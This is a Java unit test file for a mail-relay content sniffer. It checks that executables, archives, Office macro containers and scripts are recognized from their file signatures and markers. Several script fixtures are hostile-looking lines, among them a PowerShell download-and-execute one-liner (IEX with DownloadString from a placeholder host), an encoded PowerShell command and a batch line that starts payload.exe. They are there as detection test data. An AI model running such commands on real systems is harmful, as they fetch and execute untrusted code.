package org.jamesrelay.filter;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Optional;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class ContentSnifferTest {

    static byte[] hex(String hex) {
        byte[] bytes = new byte[hex.length() / 2];
        for (int i = 0; i < bytes.length; i++) {
            bytes[i] = (byte) Integer.parseInt(hex.substring(2 * i, 2 * i + 2), 16);
        }
        return bytes;
    }

    @ParameterizedTest(name = "{0}: {1}")
    @CsvSource({
        "Windows PE, 4d5a90000300000004000000, executable",
        "ELF, 7f454c4602010100, executable",
        "Mach-O 32, feedface07000000, executable",
        "Mach-O 64, feedfacf07000001, executable",
        "Mach-O 32 little-endian, cefaedfe07000000, executable",
        "Mach-O 64 little-endian, cffaedfe07000001, executable",
        "fat Mach-O, cafebabe00000002, executable",
        "zip, 504b030414000000, archive",
        "empty zip, 504b050600000000, archive",
        "rar, 526172211a0700, archive",
        "7z, 377abcaf271c0004, archive",
        "gzip, 1f8b0800, archive",
        "xz, fd377a585a000004, archive",
        "cab, 4d53434600000000, archive",
        "OLE2, d0cf11e0a1b11ae10000, office-macro",
        "pdf, 255044462d312e37, pdf",
        "shebang, 23212f62696e2f7368, script",
        "batch, 406563686f206f66660d0a, script",
        "batch upper case, 404543484f204f46460d0a, script",
        "shebang after a byte order mark, efbbbf2321707974686f6e, script",
        "bzip2, 425a683931415926, archive",
        "Windows shortcut (LNK), 4c0000000114020000000000c0000000, script",
        "text, 68656c6c6f, ''",
        "png, 89504e470d0a1a0a, ''",
        "too short for MZ, 4d, ''",
        "empty, '', ''"
    })
    void signaturesShouldBeRecognized(String what, String hex, String kind) {
        byte[] head = hex(hex);

        assertThat(ContentSniffer.sniff(head, head.length)).isEqualTo(kind.isEmpty() ? Optional.empty() : Optional.of(kind));
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource({"0, pdf", "1019, pdf", "1020, ''"})
    void pdfHeaderShouldBeFoundInTheFirstKilobyte(int offset, String kind) {
        byte[] head = new byte[2048];
        Arrays.fill(head, (byte) ' ');
        System.arraycopy("%PDF-".getBytes(StandardCharsets.US_ASCII), 0, head, offset, 5);

        assertThat(ContentSniffer.sniff(head, head.length)).isEqualTo(kind.isEmpty() ? Optional.empty() : Optional.of(kind));
    }

    @ParameterizedTest(name = "{0} bytes")
    @CsvSource({"32774, archive", "32773, ''"})
    void isoImageShouldBeRecognizedAtItsOffset(int length, String kind) {
        byte[] head = new byte[ContentSniffer.HEAD_SIZE];
        System.arraycopy("CD001".getBytes(StandardCharsets.US_ASCII), 0, head, 0x8001, 5);

        assertThat(ContentSniffer.sniff(head, length)).isEqualTo(kind.isEmpty() ? Optional.empty() : Optional.of(kind));
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', value = {
        "JScript | var s = new ActiveXObject('WScript.Shell'); s.Run('calc');",
        "VBScript | On Error Resume Next: Set s = CreateObject(\"WScript.Shell\")",
        "PowerShell | $c = New-Object Net.WebClient; IEX($c.DownloadString(\"http://x/p\"))",
        "PowerShell, encoded | powershell -EncodedCommand SQBFAFgA",
        "HTA | <html><head><HTA:APPLICATION ID=\"x\"></head></html>",
        "batch without echo off | rem setup & cmd /c start payload.exe"})
    void scriptsShouldBeRecognizedByTheirMarkers(String what, String script) {
        byte[] text = script.getBytes(StandardCharsets.ISO_8859_1);

        assertThat(ContentSniffer.sniff(text, text.length)).contains("script");
    }

    @Test
    void powerShellInUtf16ShouldBeRecognized() {
        byte[] text = ("\ufeffInvoke-Expression $payload").getBytes(StandardCharsets.UTF_16LE);

        assertThat(ContentSniffer.sniff(text, text.length)).contains("script");
    }
}
